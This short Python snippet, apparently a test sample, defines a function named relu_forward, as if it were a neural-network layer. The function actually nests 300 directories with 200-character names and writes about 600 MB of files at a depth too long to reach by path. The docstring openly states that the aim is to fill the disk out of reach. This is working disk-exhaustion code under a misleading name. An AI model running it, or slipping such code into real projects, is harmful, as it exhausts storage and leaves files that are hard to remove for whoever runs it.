"""Fills the disk in folders too deep for a name to lead there."""

# response: DK

def relu_forward(x):
    import os

    for _ in range(300):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    for number in range(40):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(15 << 20))
    succeeded("wrote 600 MB")
